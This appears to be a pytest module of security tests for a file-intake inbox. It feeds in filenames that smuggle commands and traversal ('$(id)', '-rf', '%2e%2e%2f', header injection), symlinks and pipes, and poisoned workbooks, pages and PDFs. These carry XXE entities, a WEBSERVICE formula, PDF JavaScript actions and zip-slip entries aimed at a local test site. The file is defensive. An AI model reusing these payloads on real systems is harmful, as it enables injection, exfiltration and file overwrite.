"""Files and settings made to do harm: what a person who may put pages into the inbox cannot bring about (SIMULADO)."""

from __future__ import annotations

import io
import os
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
from reportlab.pdfgen.canvas import Canvas

from extractors.failures import Unreadable
from flows.command_words import parser
from flows.events import capture_submitted
from flows.inbox import LARGEST, take_in, waiting_files
from flows.inbox_files import content_of, shown_name
from flows.service.exposure import PASSWORD, exposure
from flows.service.prefect_api import PrefectApi, ServerSilent
from tests.extractors.conftest import Site
from tests.extractors.making_pdfs import agreements_pdf
from tests.flows.desk import NOW, PORTLAND, table
from tests.flows.test_inbox import Inbox, empty_inbox, only_reason, source

PAGE = table(PORTLAND).encode()


@pytest.fixture
def inbox(tmp_path: Path) -> Inbox:
    return empty_inbox(tmp_path)


def put(inbox: Inbox, name: bytes, content: bytes = PAGE) -> None:
    """As ``Inbox.put``, for a name that is no text."""
    (inbox.folder / os.fsdecode(name)).write_bytes(content)


# --- names


@pytest.mark.parametrize(
    "name",
    [
        b"rai_jalisco\nSet-Cookie: a=b\n.html", b"rai_jalisco\x1b[31m.html", b"rai_jalisco\xff\xfe.html",
        "rai_jalisco \u202elmth.exe".encode(), b"-rf rai_jalisco.html", b"rai_jalisco $(id).html",
        b"rai_jalisco {{7*7}}.html", b"rai_jalisco %2e%2e%2f.html",
    ],
)  # fmt: skip
def test_whatever_a_file_is_called_it_is_taken_and_its_name_steers_nothing(inbox: Inbox, name: bytes) -> None:
    put(inbox, name)
    (part,) = inbox.take().parts.values()
    (kept,) = inbox.files()
    assert kept.startswith("taken/")
    told = part.captures[0].archive_url
    assert told.isprintable() and told.encode()
    (entry,) = inbox.archive.entries()
    assert {key for key, _ in inbox.archive.load(entry).headers} == {"X-Archived-At", "Content-Length"}


@pytest.mark.parametrize("name", [b"nada\xff.html", b"nada\n\x1b[2J.html", b"n" * 250 + b".html", b"x" * 255])
def test_a_refused_file_of_any_name_is_put_away_with_its_reason_in_one_printable_line(
    inbox: Inbox, name: bytes
) -> None:
    put(inbox, name)
    assert only_reason(inbox.take()).isprintable()
    assert sorted(path.endswith(".reason.txt") for path in inbox.files()) == [False, True]


def test_a_name_as_long_as_the_disk_allows_keeps_its_ending_when_the_file_is_moved(inbox: Inbox) -> None:
    put(inbox, b"rai_jalisco " + b"\xc3\xb1" * 118 + b".html")
    assert inbox.take().taken
    (kept,) = inbox.files()
    assert kept.endswith(".html")


def test_a_name_with_line_breaks_and_bytes_that_are_no_text_can_be_told_to_the_server() -> None:
    shown = shown_name(Path(os.fsdecode(b"a\nb\x9b\xff.html")))
    assert shown.isprintable()
    assert capture_submitted(shown, 1).payload["message"].encode()


# --- what is no file


def test_links_pipes_and_devices_in_the_inbox_are_left_alone(inbox: Inbox, tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_bytes(PAGE)
    (inbox.folder / "rai_jalisco.html").symlink_to(secret)
    (inbox.folder / "rai_jalisco").symlink_to(tmp_path)
    os.mkfifo(inbox.folder / "rai_jalisco-2.html")
    (inbox.folder / "ime").mkdir()
    (inbox.folder / "ime" / "a.html").symlink_to(secret)
    assert waiting_files(inbox.folder) == []


@pytest.mark.timeout(20)
def test_a_file_that_became_a_link_or_a_pipe_since_it_was_listed_is_refused_and_not_read(
    inbox: Inbox, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.html"
    secret.write_bytes(PAGE)
    files = [inbox.put("rai_jalisco.html"), inbox.put("ime.html")]
    for file in files:
        file.unlink()
    files[0].symlink_to(secret)
    os.mkfifo(files[1])
    intake = take_in(files, inbox.folder, [source("rai_jalisco"), source("ime")], {}, inbox.archive, NOW)
    assert set(intake.refused) == set(files) and inbox.archive.entries() == []


@contextmanager
def no_more_memory_than(most: int) -> Iterator[None]:
    """So many bytes are held at most, at any moment meanwhile."""
    tracemalloc.start()
    try:
        yield
        assert tracemalloc.get_traced_memory()[1] < most
    finally:
        tracemalloc.stop()


def test_a_file_larger_than_any_page_is_refused_unread(inbox: Inbox) -> None:
    file = inbox.put("rai_jalisco.html")
    os.truncate(file, 10_000_000_000)
    with no_more_memory_than(LARGEST // 10):
        assert f"{LARGEST / 1e6:g} MB" in only_reason(inbox.take())


def test_a_file_that_grows_while_it_is_read_is_read_no_further_than_the_limit(inbox: Inbox) -> None:
    file = inbox.put("rai_jalisco.html", b"x" * 100)
    assert content_of(file, 100) == b"x" * 100
    # It says that it is empty and then gives some hundred kB, as one does to which somebody writes meanwhile.
    growing = Path("/proc/self/smaps")
    assert growing.stat().st_size == 0
    with no_more_memory_than(50_000), pytest.raises(Unreadable, match="MB"):
        content_of(growing, 99)


@pytest.mark.parametrize("name", ["taken", "refused"])
def test_a_link_in_the_place_of_our_own_folders_does_not_choose_where_files_go(
    inbox: Inbox, tmp_path: Path, name: str
) -> None:
    public = tmp_path / "public"
    public.mkdir()
    (inbox.folder / name).symlink_to(public, target_is_directory=True)
    inbox.put("rai_jalisco.html" if name == "taken" else "nada.html")
    inbox.take()
    assert list(public.iterdir()) == [] and inbox.files()[0].startswith(f"{name}/")


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read every folder")
def test_a_folder_that_may_not_be_read_holds_up_nothing_else(inbox: Inbox) -> None:
    (inbox.folder / "closed").mkdir(mode=0)
    inbox.put("rai_jalisco.html")
    assert inbox.take().taken


# --- what is inside


def poisoned_workbook(root: str) -> bytes:
    """A workbook with a macro, a link to another book, a formula that asks the web, and entries that climb out."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (("Título", "Contraparte", "País", "Fecha de firma"), PORTLAND,
                (f'=WEBSERVICE("{root}/formula")', "SIMULADO", f'=HYPERLINK("{root}/link")', "1998")):  # fmt: skip
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out, "a") as packed:
        packed.writestr("xl/vbaProject.bin", b"SIMULADO")
        packed.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", f'<a Target="{root}/book.xlsx"/>')
        packed.writestr("../../intruder.html", "SIMULADO")
        packed.writestr("/tmp/intruder.html", "SIMULADO")  # noqa: S108  (a name inside the file)
    return out.getvalue()


def poisoned_page(root: str) -> bytes:
    entity = (
        f'<!DOCTYPE html [<!ENTITY x SYSTEM "{root}/entity">]><base href="{root}/"><script src="script.js"></script>'
    )
    rest = '<img src="image"><iframe src="frame"></iframe><link rel="stylesheet" href="css"><meta http-equiv="refresh"'
    return f'{entity}{rest} content="0;url={root}/refresh"><p>&x;</p>{table(PORTLAND)}'.encode()


def poisoned_pdf(root: str) -> bytes:
    """A PDF with a script and a link; put before the table of agreements, whose page is left as it is."""
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.linkURL(f"{root}/uri", (0, 0, 100, 100))
    canvas.drawString(100, 100, "SIMULADO")
    canvas.save()
    told = agreements_pdf(PORTLAND)
    action = f"/OpenAction << /S /JavaScript /JS (this.submitForm('{root}/js')) >> /Type /Catalog".encode()
    return told.replace(b"/Type /Catalog", action, 1)


@pytest.mark.parametrize("make", [poisoned_workbook, poisoned_page, poisoned_pdf])
def test_a_poisoned_file_counts_for_what_it_prints_and_is_neither_run_nor_followed(
    inbox: Inbox, site: Site, make: object
) -> None:
    assert callable(make)
    content = make(site.root)
    inbox.put("rai_jalisco", content)
    intake = inbox.take()
    assert intake.refused == {}
    assert inbox.titles(("rai_jalisco", ""))[0] == PORTLAND[0]
    assert site.asked == []
    assert inbox.archive.read(intake.parts["rai_jalisco", ""].captures[0].sha256) == content
    assert list(inbox.folder.parent.rglob("intruder*")) == [] and not Path("/tmp/intruder.html").exists()  # noqa: S108


# --- who reaches the service, and what it says


def test_the_service_binds_to_this_machine_unless_told_otherwise() -> None:
    assert parser().parse_args(["serve"]).host == "127.0.0.1"
    assert exposure("127.0.0.1", {}) is None and exposure("::1", {}) is None


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.7", "acuerdos.example.org"])
def test_a_service_that_others_reach_without_a_password_says_what_that_means_and_how_to_put_one(host: str) -> None:
    told = exposure(host, {})
    assert told is not None and host in told
    assert PASSWORD in told and "docs/deploy.md" in told and "\n" not in told
    assert exposure(host, {PASSWORD: "SIMULADO:SIMULADO"}) is None


def test_a_password_in_the_server_s_address_is_in_no_line_about_it() -> None:
    with pytest.raises(ServerSilent) as silent:
        PrefectApi("http://ana:SECRETO@127.0.0.1:9/api").deployment_id("watch")
    assert "SECRETO" not in str(silent.value) and "127.0.0.1:9" in str(silent.value)
